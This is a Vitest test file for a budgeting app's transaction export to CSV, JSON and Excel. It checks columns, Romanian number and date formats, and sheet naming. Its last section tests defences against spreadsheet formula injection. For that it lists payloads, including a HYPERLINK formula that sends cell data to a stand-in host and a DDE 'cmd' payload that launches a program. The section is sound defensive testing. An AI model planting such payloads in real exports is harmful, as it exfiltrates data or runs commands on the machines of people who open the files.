// @vitest-environment node
import type { TransactionRow } from '@buget/shared-domain/transactions';
import ExcelJS from 'exceljs';
import { unzipSync, strFromU8 } from 'fflate';
import { describe, expect, it } from 'vitest';
import { EXPORT_COLUMNS, toExportRecord, type ExportContext, type ExportWriter } from './export-record';
import { csvWriter, jsonWriter } from './writers';
import { xlsxWriter } from './xlsx-writer';

const BANK = 'acc-bank';
const CASH = 'acc-cash';
const context: ExportContext = { dateFormat: 'DD/MM/YYYY', accountNames: new Map([[BANK, 'Bancă'], [CASH, 'Cash']]) };

const row = (i: number, extra: Partial<TransactionRow> = {}): TransactionRow => ({
  id: `id-${i}`, user_id: 'u', account_id: BANK, to_account_id: null, type: 'EXPENSE', amount: 1234.5 + i, actual_amount: null, planned_amount: null,
  execution_status: 'COMPLETED', date: '2026-03-01', category: 'NUTRITIE', subcategory: 'Supermarket', description: `piață; "mare" <${i}>`,
  currency: 'RON', recurring: false, frequency: 'NONE', recurring_rule_id: null, running_balance: -100.25 - i, counted_amount: extra.amount ?? 1234.5 + i, ...extra,
});
const modified = row(0, { amount: 65, actual_amount: 70.5, counted_amount: 70.5, execution_status: 'MODIFIED', description: 'piață' });
const transfer = row(0, { type: 'TRANSFER', category: 'TRANSFER', subcategory: null, amount: 500, to_account_id: CASH, to_amount: 99.5, to_currency: 'EUR', execution_status: null, date: '2026-03-02', description: 'retragere' });

async function write(writer: ExportWriter, pages: TransactionRow[][], title?: string): Promise<Blob> {
  const parts = [...writer.start(title)];
  for (const p of pages) parts.push(...writer.page(p));
  parts.push(...writer.finish());
  return new Blob(parts);
}

const header = EXPORT_COLUMNS.map((c) => c.header);
const column = (name: string) => header.indexOf(name);

describe('the exported record (issue 22 point 9)', () => {
  it('carries the account, the status, the planned and the real amount', () => {
    expect(toExportRecord(modified, context)).toMatchObject({
      type: 'Cheltuială', account: 'Bancă', toAccount: '', category: 'Nutriție', status: 'Modificată', plannedAmount: 65, realAmount: 70.5, date: '2026-03-01',
    });
    expect(toExportRecord(transfer, context)).toMatchObject({
      type: 'Transfer', account: 'Bancă', toAccount: 'Cash', category: '', status: 'Planificată', plannedAmount: 500, realAmount: null,
    });
  });
});

describe('CSV as Romanian Excel opens it', () => {
  it('UTF-8 with a BOM, the header first, ";" between cells, decimal commas, dates as the setting writes them', async () => {
    const blob = await write(csvWriter(context), [[row(1, { reconciled_at: '2026-03-02T08:00:00Z' }), modified], [transfer]], 'Raport martie');
    const bytes = new Uint8Array(await blob.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes).replace(/^\uFEFF/, '').split('\r\n');
    expect(lines.at(-1)).toBe('');
    expect(lines[0]).toBe(header.join(';'));
    expect(lines[0]).not.toContain('Raport martie');
    expect(lines).toHaveLength(5);
    // A cell holding ';' or '"' is quoted; numbers have a decimal comma and no thousands separator.
    expect(lines[1]).toBe('01/03/2026;Cheltuială;Bancă;;Nutriție;Supermarket;"piață; ""mare"" <1>";Realizată;1235,50;1235,50;RON;;;Nu;Fără;-101,25;Da;id-1');
    expect(lines[2]?.split(';').slice(column('Stare'), column('Sumă reală') + 1)).toEqual(['Modificată', '65', '70,50']);
    // Issue 26 point 2: a transfer between two currencies with what reached the other account, in its currency.
    expect(lines[3]).toBe('02/03/2026;Transfer;Bancă;Cash;;;retragere;Planificată;500;;RON;99,50;EUR;Nu;Fără;-100,25;Nu;id-0');
  });
  it('writes dates in the format the person chose', async () => {
    const text = await (await write(csvWriter({ ...context, dateFormat: 'YYYY-MM-DD' }), [[row(1)]])).text();
    expect(text.split('\r\n')[1]?.startsWith('2026-03-01;')).toBe(true);
  });
});

describe('JSON', () => {
  it('is valid across pages, with numbers as numbers and the same fields', async () => {
    const parsed = JSON.parse(await (await write(jsonWriter(context, new Date('2026-03-02T10:00:00Z')), [[row(1), modified], [transfer]], 'Raport')).text());
    expect(parsed.title).toBe('Raport');
    expect(parsed.exportedAt).toBe('2026-03-02T10:00:00.000Z');
    expect(parsed.transactions.map((t: { id: string }) => t.id)).toEqual(['id-1', 'id-0', 'id-0']);
    expect(parsed.transactions[1]).toMatchObject({ status: 'Modificată', plannedAmount: 65, realAmount: 70.5, account: 'Bancă' });
    expect(parsed.transactions[2]).toMatchObject({ type: 'Transfer', toAccount: 'Cash', realAmount: null });
    expect(Object.keys(parsed.transactions[0])).toEqual(EXPORT_COLUMNS.map((c) => c.key));
  });
});

describe('Excel', () => {
  it('a workbook ExcelJS reads back: header first, real dates, numbers with two decimals, widths, the title as the sheet name', async () => {
    const blob = await write(xlsxWriter(context), [[row(1), modified], [transfer]], 'Raport: martie');
    const buffer = await blob.arrayBuffer();
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(buffer);
    const sheet = book.worksheets[0]!;
    expect(sheet.name).toBe('Raport martie');
    expect(book.title).toBe('Raport: martie');
    expect(sheet.rowCount).toBe(4);
    expect(sheet.getRow(1).values).toEqual([undefined, ...header]);
    expect(sheet.getRow(1).getCell(1).font?.bold).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });

    const date = sheet.getRow(2).getCell(column('Dată') + 1);
    expect(date.type).toBe(ExcelJS.ValueType.Date);
    expect((date.value as Date).toISOString()).toBe('2026-03-01T00:00:00.000Z');
    expect(date.numFmt).toBe('dd/mm/yyyy');
    const planned = sheet.getRow(3).getCell(column('Sumă planificată') + 1);
    const real = sheet.getRow(3).getCell(column('Sumă reală') + 1);
    expect([planned.type, planned.value, real.value]).toEqual([ExcelJS.ValueType.Number, 65, 70.5]);
    expect(real.numFmt).toBe('#,##0.00');
    expect(sheet.getRow(2).getCell(column('Sold cumulat') + 1).value).toBe(-101.25);
    // A planned transfer has no real amount yet: the cell is empty, not 0.
    expect(sheet.getRow(4).getCell(column('Sumă reală') + 1).type).toBe(ExcelJS.ValueType.Null);
    expect(sheet.getRow(4).getCell(column('Către contul') + 1).value).toBe('Cash');
    expect(sheet.getRow(2).getCell(column('Descriere') + 1).value).toBe('piață; "mare" <1>');
    expect(sheet.getColumn(column('Descriere') + 1).width).toBe(40);
  });
  it('names the sheet Tranzacții without a title, and writes the date format of the setting', async () => {
    const blob = await write(xlsxWriter({ ...context, dateFormat: 'MM/DD/YYYY' }), [[row(1)]]);
    const files = unzipSync(new Uint8Array(await blob.arrayBuffer()));
    expect(strFromU8(files['xl/workbook.xml']!)).toContain('name="Tranzacții"');
    expect(strFromU8(files['xl/styles.xml']!)).toContain('formatCode="mm/dd/yyyy"');
  });
});

describe('text that a spreadsheet would run as a formula (issue 24 point 8)', () => {
  const PAYLOADS = ['=HYPERLINK("https://rau.example/?d="&A2,"Click")', '+1+1', "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)', '\t=1+1', '\r=1+1', '-12,50'];
  const TEXT_COLUMNS = ['Cont', 'Categorie', 'Subcategorie', 'Descriere'];
  const attack = (payload: string): { row: TransactionRow; context: ExportContext } => ({
    row: row(1, { category: payload, subcategory: payload, description: payload, running_balance: -12.5 }),
    context: { ...context, accountNames: new Map([[BANK, payload]]) },
  });

  /** The cells of one CSV line as a spreadsheet reads them: ';' between cells, a quoted cell's "" as one quote. */
  const cellsOf = (line: string): string[] => {
    const cells: string[] = [];
    let cell = '';
    let quoted = false;
    for (let i = 0; i < line.length; i++) {
      const c = line[i];
      if (quoted && c === '"' && line[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') {
        quoted = !quoted;
      } else if (c === ';' && !quoted) {
        cells.push(cell);
        cell = '';
      } else {
        cell += c;
      }
    }
    return [...cells, cell];
  };

  it.each(PAYLOADS)('CSV: %j is text (a leading apostrophe), the amounts stay numbers', async (payload) => {
    const { row: attacked, context: named } = attack(payload);
    const [, line = ''] = (await (await write(csvWriter(named), [[attacked]])).text()).split('\r\n');
    const cells = cellsOf(line);
    expect(cells).toHaveLength(header.length);
    for (const name of TEXT_COLUMNS) expect(cells[column(name)], name).toBe(`'${payload}`);
    expect(cells[column('Sold cumulat')]).toBe('-12,50');
    expect(cells[column('Sumă planificată')]).toBe('1235,50');
    const live = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+(,\d+)?$/.test(cell));
    expect(live).toEqual([]);
  });

  it.each(PAYLOADS)('Excel: %j is written as a string, never a formula', async (payload) => {
    const { row: attacked, context: named } = attack(payload);
    const buffer = await (await write(xlsxWriter(named), [[attacked]])).arrayBuffer();
    expect(strFromU8(unzipSync(new Uint8Array(buffer))['xl/worksheets/sheet1.xml']!)).not.toMatch(/<f[ >]/);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(buffer);
    const cells = book.worksheets[0]!.getRow(2);
    for (const name of TEXT_COLUMNS) {
      const cell = cells.getCell(column(name) + 1);
      expect(cell.type, name).toBe(ExcelJS.ValueType.String);
      // XML reads a carriage return in text as a line feed; the cell is text all the same.
      expect(cell.value, name).toBe(payload.replace(/\r/g, '\n'));
    }
    expect(cells.getCell(column('Sold cumulat') + 1).value).toBe(-12.5);
  });
});
